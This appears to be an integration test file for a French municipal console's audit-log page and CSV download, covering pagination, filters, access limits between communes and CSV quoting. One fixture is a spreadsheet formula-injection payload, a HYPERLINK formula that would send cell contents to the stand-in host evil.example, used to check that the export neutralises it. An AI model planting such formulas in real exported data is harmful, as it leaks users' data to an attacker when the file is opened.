// The console's audit page: the log filtered by commune, actor, kind and period (days in Paris), by pages,
// and its CSV download (RFC 4180, no formula for a spreadsheet to run); all through the API's readAudit, so
// that a referent of Oullins reaches no entry of Lyon whatever the filters say.
import { anOperatorPerson, consolePage } from '../support/console.js';
import { anOidcWorld } from '../support/oidc-world.js';
import { isPage, type Page, type UserAgent } from '../support/user-agent.js';
import { useWorld } from '../support/world.js';

const world = useWorld(() => anOidcWorld({ communes: ['oullins', 'lyon'], accounts: { referent: {}, admin: {} } }));

let referent: UserAgent;
let admin: UserAgent;

async function seed(
  at: string,
  entry: { actor: string; label: string; action: string; commune: string; target?: string; after?: unknown },
) {
  await world.server.pool.query(
    `insert into audit_log (at, actor, actor_label, action, commune_slug, communes, target, after) values ($1, $2, $3, $4, $5, $6, $7, $8)`,
    [at, entry.actor, entry.label, entry.action, entry.commune, [entry.commune], entry.target ?? null, JSON.stringify(entry.after ?? null)],
  );
}

const FORMULA_LABEL = '=HYPERLINK("https://evil.example/?"&A1,"clic")';

beforeAll(async () => {
  await anOperatorPerson(world.server, world.referent, 'commune-referent', ['oullins']);
  await anOperatorPerson(world.server, world.admin, 'metropole-admin');
  // March 2025: 55 changes of Oullins' sites by its referent (more than a page of 50), one of Lyon by Lyon's own.
  for (let i = 0; i < 55; i++) {
    await seed(new Date(Date.UTC(2025, 2, 3, 9, i)).toISOString(), {
      actor: 'account:oullins-referent',
      label: 'referente@oullins.fr',
      action: i % 5 === 0 ? 'client.created' : 'client.updated',
      commune: 'oullins',
      target: `client:site-${i}`,
    });
  }
  await seed('2025-03-05T10:00:00Z', {
    actor: 'account:lyon-admin',
    label: 'secret-lyon@lyon.fr',
    action: 'commune.updated',
    commune: 'lyon',
  });
  // 2 April 2025 in Paris: 23:30 (21:30 UTC) belongs to that day, 00:30 the next day (22:30 UTC) does not.
  await seed('2025-04-02T21:30:00Z', {
    actor: 'client:tool',
    label: FORMULA_LABEL,
    action: 'commune.identity_changed',
    commune: 'oullins',
    after: { display_name: '+33 1 "Mairie", annexe', note: '@SUM(1+1)' },
  });
  await seed('2025-04-02T22:30:00Z', { actor: 'client:tool', label: 'outil', action: 'commune.updated', commune: 'oullins' });
  referent = (await consolePage(world.server, world.referent)).agent;
  admin = (await consolePage(world.server, world.admin)).agent;
});

async function open(agent: UserAgent, path: string): Promise<Page> {
  const page = await agent.navigate(path);
  if (!isPage(page)) throw new Error(`expected a page at ${path}`);
  return page;
}

/** The table's rows: [actor, action, commune, target] of each. */
function rowsOf(html: string): string[][] {
  const body = /<tbody>([\s\S]*?)<\/tbody>/.exec(html)?.[1] ?? '';
  return [...body.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((row) =>
    [...row[1]!.matchAll(/<td>([\s\S]*?)<\/td>/g)].slice(1, 5).map((cell) => cell[1]!.replace(/<[^>]+>/g, '').trim()),
  );
}

const MARCH = 'since=2025-03-01&until=2025-03-31';

describe('the audit page', () => {
  it('pages a commune’s entries fifty at a time, oldest first, with links to the next and previous pages', async () => {
    const first = await open(referent, `/admin/audit?commune=oullins&${MARCH}`);
    expect(first.status).toBe(200);
    expect(first.html).toContain('<h1>Journal des modifications</h1>');
    expect(first.html).toContain('Modifications 1 à 50 sur 55, les plus anciennes d’abord.');
    const rows = rowsOf(first.html);
    expect(rows).toHaveLength(50);
    expect(rows[0]).toEqual(['referente@oullins.fr', 'client.created', 'oullins', 'client:site-0']);
    const next = /<a href="([^"]+)" rel="next">/.exec(first.html)?.[1]?.replace(/&amp;/g, '&');
    expect(next).toBe(`/admin/audit?commune=oullins&since=2025-03-01&until=2025-03-31&page=2`);
    const second = await open(referent, next!);
    expect(second.html).toContain('Modifications 51 à 55 sur 55');
    expect(rowsOf(second.html).map((r) => r[3])).toEqual([
      'client:site-50',
      'client:site-51',
      'client:site-52',
      'client:site-53',
      'client:site-54',
    ]);
    expect(second.html).toContain('rel="prev"');
    expect(second.html).not.toContain('rel="next"');
  });

  it('filters by a kind of action or one action, and by actor', async () => {
    const created = rowsOf((await open(referent, `/admin/audit?action=client.created&${MARCH}`)).html);
    expect(created.map((r) => r[1])).toEqual(Array(11).fill('client.created'));
    const kind = await open(referent, `/admin/audit?action=client&${MARCH}`);
    expect(kind.html).toContain('sur 55');
    expect(kind.html).toMatch(/<option value="client" selected>/);
    const byActor = await open(referent, '/admin/audit?actor=outil&since=2025-04-01');
    expect(rowsOf(byActor.html)).toEqual([['outil', 'commune.updated', 'oullins', '—']]);
    expect(byActor.html).toContain('value="outil"');
  });

  it('reads the period as days in Paris, the end day included', async () => {
    const day = rowsOf((await open(referent, '/admin/audit?since=2025-04-02&until=2025-04-02')).html);
    expect(day.map((r) => r[1])).toEqual(['commune.identity_changed']);
    const next = rowsOf((await open(referent, '/admin/audit?since=2025-04-03&until=2025-04-03')).html);
    expect(next.map((r) => r[1])).toEqual(['commune.updated']);
  });

  it('shows the form again with the values kept and the error on its field for a date it cannot read, or an end before the start', async () => {
    const page = await open(referent, '/admin/audit?since=2025-02-30&actor=outil');
    expect(page.status).toBe(400);
    expect(page.html).toMatch(
      /<input id="field-since" name="since" type="date" value="2025-02-30" aria-describedby="field-since-hint field-since-error" aria-invalid="true">/,
    );
    expect(page.html).toContain('<p class="field-error" id="field-since-error">Saisissez une date valide');
    expect(page.html).toContain('value="outil"');
    const reversed = await open(referent, '/admin/audit?since=2025-04-03&until=2025-04-01');
    expect(reversed.status).toBe(400);
    expect(reversed.html).toContain('id="field-until-error">La date de fin doit être le même jour que la date de début ou après.');
  });

  it('lets the Métropole read Lyon’s entry', async () => {
    const rows = rowsOf((await open(admin, `/admin/audit?commune=lyon&${MARCH}`)).html);
    expect(rows).toEqual([['secret-lyon@lyon.fr', 'commune.updated', 'lyon', '—']]);
  });

  it('refuses a referent of Oullins the commune of Lyon, on the page and as CSV, and no filter shows Lyon’s entry', async () => {
    const refused = await open(referent, `/admin/audit?commune=lyon&${MARCH}`);
    expect(refused.status).toBe(403);
    expect(refused.html).toMatch(/<select id="field-commune" name="commune" aria-describedby="field-commune-error" aria-invalid="true">/);
    expect(refused.html).not.toContain('secret-lyon');
    expect((await referent.request(`/admin/audit.csv?commune=lyon&${MARCH}`)).status).toBe(403);
    for (const query of [MARCH, `actor=account:lyon-admin&${MARCH}`, `actor=secret-lyon@lyon.fr&${MARCH}`, `action=commune&${MARCH}`]) {
      const page = await open(referent, `/admin/audit?${query}`);
      expect(page.status).toBe(200);
      expect(rowsOf(page.html).filter((row) => row[2] === 'lyon' || row[0]!.includes('secret-lyon'))).toEqual([]);
      const csv = await (await referent.request(`/admin/audit.csv?${query}`)).text();
      expect(csv).not.toContain('secret-lyon');
    }
  });

  it('sends the user to the console’s sign-in when not signed in', async () => {
    const response = await fetch(`${world.server.issuer}/admin/audit.csv`, { redirect: 'manual' });
    expect(response.status).toBe(303);
    expect(response.headers.get('location')).toMatch(/^\/admin\/login\?return=/);
  });
});

/** RFC 4180: quoted cells, doubled quotes, CRLF between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (isQuoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') isQuoted = false;
      else cell += c;
    } else if (c === '"') isQuoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('the audit as CSV', () => {
  it('downloads the filtered entries as an attachment, a header line first', async () => {
    const response = await referent.request(`/admin/audit.csv?commune=oullins&${MARCH}&page=2`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-\d{4}-\d{2}-\d{2}\.csv"$/);
    const text = await response.text();
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(text);
    expect(rows[0]).toEqual(['at', 'actor', 'actor_label', 'action', 'commune', 'target', 'before', 'after', 'origin']);
    // Every entry of the filter, not one page of it.
    expect(rows.slice(1)).toHaveLength(55);
    expect(rows[1]!.slice(0, 6)).toEqual([
      '2025-03-03T09:00:00.000Z',
      'account:oullins-referent',
      'referente@oullins.fr',
      'client.created',
      'oullins',
      'client:site-0',
    ]);
  });

  it('quotes as RFC 4180 says and gives a spreadsheet no formula to run', async () => {
    const text = await (await referent.request('/admin/audit.csv?since=2025-04-02&until=2025-04-02')).text();
    const [, entry] = parseCsv(text);
    expect(entry![2]).toBe(`'${FORMULA_LABEL}`);
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""clic"")"`);
    // A JSON cell starts with { and is quoted for its commas and quotes, the formula inside it left harmless.
    expect(JSON.parse(entry![7]!)).toEqual({ display_name: '+33 1 "Mairie", annexe', note: '@SUM(1+1)' });
    for (const cell of entry!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
